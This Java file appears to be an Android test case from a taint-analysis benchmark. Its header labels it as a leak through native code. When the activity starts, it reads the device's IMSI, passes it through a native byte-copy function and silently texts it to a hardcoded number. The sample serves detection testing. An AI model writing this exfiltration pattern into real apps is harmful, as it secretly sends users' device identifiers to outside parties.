// about       Native code makes a new array of the bytes that it was given.
// leak        DEV_IMSI sms
// native      ArrayRegion_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static {
    System.loadLibrary("ArrayRegion_leak");
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    byte[] bytes = copy(phone.getSubscriberId().getBytes());
    String text = new String(bytes);
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  private static native byte[] copy(byte[] bytes);
}
